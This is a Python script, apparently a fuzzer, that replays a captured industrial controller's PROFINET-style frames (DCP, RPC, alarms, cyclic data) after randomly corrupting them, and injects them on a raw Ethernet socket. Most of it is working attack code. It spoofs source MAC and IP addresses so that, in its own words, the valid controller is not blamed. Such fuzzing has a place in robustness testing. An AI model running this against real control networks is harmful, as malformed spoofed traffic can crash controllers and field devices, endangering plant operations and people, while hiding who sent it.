# Sends hostile frames, made with `scapy` from a valid controller's frames, beside a controller that exchanges data.
import random
import socket
import sys

from scapy.all import Ether, IP, Raw, UDP, conf, rdpcap, sendp

conf.verb = 0
INTERFACE = "eth0"
capture, seed, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
chance = random.Random(seed)
frames = [bytes(frame) for frame in rdpcap(capture)]
with open(f"/sys/class/net/{INTERFACE}/address") as file:
    own = bytes.fromhex(file.read().replace(":", ""))
# Frames of the controller: DCP, RPC, alarms, cyclic data.
frames = [frame for frame in frames if frame[6:12] == own]
# Of IP, keep only UDP, which carries RPC. The system sends other packets.
frames = [frame for frame in frames if frame[12:14] != b"\x08\x00" or frame[23] == 17]
kinds = {}
for frame in frames:
    at = 16 if frame[12:14] == b"\x81\x00" else 12
    kind = frame[at:at + 4] if frame[at:at + 2] == b"\x88\x92" else frame[at:at + 2]
    kinds.setdefault(kind, []).append(frame)
assert len(kinds) >= 4, kinds.keys()


def mutated(frame):
    frame = bytearray(frame)
    # Mostly use another station's address, so that the valid controller is not blamed.
    frame[6:12] = b"\x02\x00\x00\x00\x66" + bytes([chance.randrange(4)])
    first = 14
    is_rpc = frame[12:14] == b"\x08\x00"
    if is_rpc:
        first = 42 + (80 if chance.random() < 0.7 else 0)
    for _ in range(chance.randrange(1, 6)):
        what = chance.randrange(4)
        at = chance.randrange(first, len(frame)) if len(frame) > first else first
        if what == 0:
            frame[at:at + 1] = bytes([chance.randrange(256)])
        elif what == 1:
            frame[at:at + 2] = chance.choice([b"\x00\x00", b"\xff\xff", b"\x7f\xff", b"\x00\x01"])
        elif what == 2:
            del frame[at:]
        else:
            frame[at:at] = frame[first:at][:300]
    if is_rpc:
        packet = Ether(bytes(frame[:42]))
        payload = bytes(frame[42:])
        source = "192.168.7.%d" % chance.randrange(100, 104)
        ip = IP(src=source, dst="192.168.7.5")
        return bytes(Ether(dst=packet.dst, src=packet.src) / ip / UDP(sport=packet[UDP].sport, dport=34964) / Raw(payload))
    return bytes(frame)


sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((INTERFACE, 0))
names = sorted(kinds)
for _ in range(count):
    frame = mutated(chance.choice(kinds[chance.choice(names)]))
    try:
        sender.send(frame[:1514])
    except OSError:
        # The interface rejects invalid Ethernet frames.
        pass
